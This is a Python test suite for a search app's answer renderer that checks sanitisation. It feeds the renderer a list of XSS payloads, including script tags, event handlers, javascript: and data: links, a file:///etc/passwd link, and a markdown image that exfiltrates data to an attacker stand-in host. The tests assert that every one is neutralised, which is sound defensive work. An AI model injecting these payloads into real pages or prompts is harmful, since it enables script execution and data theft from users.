"""Rendering upstream text: nothing executable, no off-site images, citations only to http(s)."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from search.render import TAGS, render_answer, render_sources

SOURCES = [
    {"title": "One", "url": "https://one.example/a", "snippet": ""},
    {"title": "Two", "url": "javascript:alert(1)", "snippet": ""},
    {"title": "Three", "url": "http://three.example", "snippet": ""},
]
SCHEME = re.compile(r"^([a-zA-Z][a-zA-Z0-9+.\-]*):")


class Checker(HTMLParser):
    """Fails on anything that could run or load: unknown tags, handlers, bad URLs, images."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag not in TAGS:
            self.problems.append(f"tag {tag}")
        for name, value in attrs:
            value = value or ""
            risky = name.startswith("on") or name in (
                "src",
                "srcset",
                "style",
                "id",
                "name",
                "formaction",
                "srcdoc",
            )
            if risky:
                self.problems.append(f"attribute {name} on {tag}")
            if name == "href":
                # WHATWG: strip C0 controls and space, drop tab/newline, then read the scheme
                cleaned = re.sub(
                    r"[\t\n\r]",
                    "",
                    value.strip(
                        "\x00\x01\x02\x03\x04\x05\x06\x07\x08\x0b\x0c\x0e\x0f\x10\x11\x12\x13\x14\x15\x16\x17\x18\x19\x1a\x1b\x1c\x1d\x1e\x1f "
                    ),
                )
                match = SCHEME.match(cleaned)
                if match and match.group(1).lower() not in ("http", "https", "mailto"):
                    self.problems.append(f"href {value!r}")
                if tag == "a" and dict(attrs).get("rel") != "noopener noreferrer nofollow":
                    self.problems.append("link without rel")


def problems(html: str) -> list[str]:
    checker = Checker()
    checker.feed(html)
    checker.close()
    return checker.problems


# Drawn from markdown-it's xss fixtures, the OWASP XSS filter evasion cheat sheet,
# cujanovic/Markdown-XSS-Payloads, python-markdown2 / mistune security issues and the OWASP LLM
# prompt-injection cheat sheet (security guide, section 2).
PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](javascript&#58;alert(1))",
    "[a](&#x6A;avascript:alert(1))",
    "[a](java\tscript:alert(1))",
    "[a](vbscript:msgbox(1))",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![a](data:image/png;base64,iVBORw0KGgo=)",
    "![a](javascript:alert(1))",
    '![a](https://evil.example/steal?data=SECRET "t")',
    "[a](file:///etc/passwd)",
    "<https://ok.example> <javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "[1]: https://evil.example\n\nsee [1]",
    "<details open ontoggle=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<a href="x" onmouseover="alert(1)">x</a>',
    "``<script>alert(1)</script>``",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "<!-- <script>alert(1)</script> -->",
    "[a](<javascript:alert(1)>)",
    "[a](  javascript:alert(1))",
    '[a]("javascript:alert(1)")',
    "<style>body{background:url(https://evil)}</style>",
    "<form action=https://evil><button>x</button></form>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<base href=https://evil/>",
    "<meta http-equiv=refresh content='0;url=https://evil'>",
    '<div id="cite" name="x">clobber</div>',
    "\u202eevil\u202c [1]",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    '[a](https://ok.example "onmouseover=alert(1)")',
    "www.example.com/<script>",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payloads_render_to_nothing_executable(payload):
    html = render_answer(payload, SOURCES)
    assert problems(html) == [], html
    assert "<img" not in html and "<script" not in html.lower()


def test_images_become_links_and_bidi_controls_vanish():
    html = render_answer("![cat](https://pics.example/cat.png) \u202ereversed\u2066", SOURCES)
    assert '<a href="https://pics.example/cat.png"' in html and "[image: cat]" in html
    assert "\u202e" not in html and "\u2066" not in html


def test_citations_link_only_to_http_sources():
    html = render_answer("One [1], two [2], three [3], four [4], zero [0].", SOURCES)
    assert '<a href="https://one.example/a" class="cite"' in html
    assert 'href="http://three.example"' in html
    assert "two [2]" in html and "four [4]" in html and "zero [0]" in html  # left as text
    assert "javascript" not in html


def test_citations_are_not_touched_inside_code_or_links():
    html = render_answer("`a[1]` and [see [1]](https://x.example)", SOURCES)
    assert "<code>a[1]</code>" in html
    assert html.count('class="cite"') == 0


def test_link_reference_definitions_are_not_honoured():
    html = render_answer("[1]: https://evil.example\n\n[click][1]", [])
    assert 'href="https://evil.example"' in html  # linkified as visible text, not a hidden target
    assert "[click][1]" in html


def test_tables_code_and_lists_are_kept():
    html = render_answer("| a | b |\n|:--|--:|\n| 1 | 2 |\n\n```python\nx = 1\n```\n\n1. one\n2. two", [])
    # alignment as classes: the page's CSP allows no inline style, which would silently drop it
    assert '<th class="align-left">a</th>' in html and '<td class="align-right">2</td>' in html
    assert "style=" not in html
    assert '<pre class="highlight"><code><span class="n">x</span>' in html
    assert "<ol>" in html


def test_sources_list_escapes_and_drops_bad_links():
    html = render_sources([
        {"title": "<script>x</script>", "url": "https://a.example/p", "snippet": "<b>s</b>"},
        {"title": "Bad", "url": "javascript:alert(1)", "snippet": ""},
    ])  # fmt: skip
    assert "&lt;script&gt;x&lt;/script&gt;" in html and "&lt;b&gt;s&lt;/b&gt;" in html
    assert 'href="https://a.example/p"' in html
    assert "javascript" not in html
    # the full list folds behind "+N more" (a details element, which the answer's own HTML never has)
    found = problems(html.replace(' target="_blank"', ""))
    assert [p for p in found if p not in ("tag details", "tag summary")] == []


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.text(
        alphabet=st.sampled_from(list("<>[]()!`*_-#|:\"'=/\\ \n\tjavascriptonerrorhttps.&;1234\u202e"))
        | st.characters(),
        max_size=300,
    )
)
def test_rendering_never_emits_anything_executable_for_any_input(text):
    html = render_answer(text, SOURCES)
    assert problems(html) == []
    assert "<img" not in html


@settings(max_examples=200, deadline=None)
@given(st.lists(st.sampled_from([*PAYLOADS, "**b**", "[1]", "\n\n", "https://x.example", "`c`"]), max_size=8))
def test_payload_mixtures_stay_safe(parts):
    html = render_answer(" ".join(parts), SOURCES)
    assert problems(html) == []


def test_lone_surrogates_from_json_escapes_do_not_break_rendering():
    html = render_answer("broken \ud800 text", [{"title": "t\udfff", "url": "https://x.example"}])
    assert "broken ? text" in html
    assert "t?" in render_sources([{"title": "t\udfff", "url": "https://x.example"}])


PIECES = [*"ab.:/@ 1wWlocahstLOCAHST-_>|\n\u3002", "com", "org", "рф", "localhost", "www.", "io", "http"]
LINKY = st.lists(st.sampled_from(PIECES), max_size=20).map("".join)


@settings(max_examples=3000, deadline=None)
@given(st.one_of(LINKY, st.text(max_size=40)))
def test_the_quick_link_check_never_hides_a_link(text):
    # the quick check in front of linkify-it's pretest may only skip text its pretest rejects
    from linkify_it import LinkifyIt

    from search.render import _Linkify

    assert _Linkify().pretest(text) == LinkifyIt().pretest(text)


@pytest.mark.parametrize(
    "text",
    [
        "see example.com, https://x.org/a?b=1 and a@b.io",
        "www.example.com and //cdn.example.net/x and mailto:me@example.com",
        "localhost:8000, 10.0.0.1:80 and пример.рф",
        "Version 3.5 is out. No link here: none at all.",
    ],
)
def test_links_in_answers_are_found_as_before(text):
    from markdown_it import MarkdownIt

    plain = MarkdownIt("js-default", {"linkify": True}).enable(["table", "strikethrough"])
    assert render_answer(text).count("<a ") == plain.render(text).count("<a ")


def test_an_answer_stream_knows_what_the_browser_already_has():
    from search.live.fragments import AnswerStream

    stream = AnswerStream(7)
    assert stream.shows("")
    stream.update("First paragraph.\n\nSecond, still growing", [])
    assert stream.shows("First paragraph.\n\nSecond, still growing")
    assert not stream.shows("First paragraph.\n\nSecond, still growing.")  # one more character
    assert not stream.shows("First paragraph.\n\nSecond, still growin")
    assert not stream.shows("Rewritten paragraph.\n\nSecond, still growing")
    assert not stream.shows("Final paragraph.\n\nSecond, still growing")  # as long, but rewritten


def test_a_rewrite_of_text_already_sent_as_blocks_sends_the_whole_answer_again():
    from search.live.fragments import AnswerStream

    stream = AnswerStream(7)
    first = stream.update("First paragraph.\n\nSecond", [])
    assert "First paragraph." in "".join(first)  # a finished block
    growing = "".join(stream.update("First paragraph.\n\nSecond, more", []))
    assert "entry-7-tail" in growing and "First" not in growing  # only the tail changed
    rewritten = stream.update("Final paragraph.\n\nSecond, more", [])  # an earlier block changed
    assert len(rewritten) == 1 and 'id="entry-7-answer"' in rewritten[0]
    assert "Final paragraph." in rewritten[0] and "First" not in rewritten[0]
    assert stream.shows("Final paragraph.\n\nSecond, more")


def test_a_citation_keeps_the_punctuation_after_it_on_its_line():
    html = render_answer(
        "Paris is the capital [1]. Lyon [1][3], then Nice [3]\u201d and more [1] here", SOURCES
    )
    assert re.search(r'<span class="cite-run"><a [^>]*class="cite"[^>]*>.*?</a>\.</span> Lyon', html)
    assert re.search(
        r'<span class="cite-run"><span class="cite-group"><a [^>]*class="cite".*?\+1.*?</span></span>,</span> then',
        html,
    )
    assert re.search(r"</a>\u201d</span> and more", html)
    assert html.count('class="cite-run"') == 3  # "[1] here": nothing to hold, no run
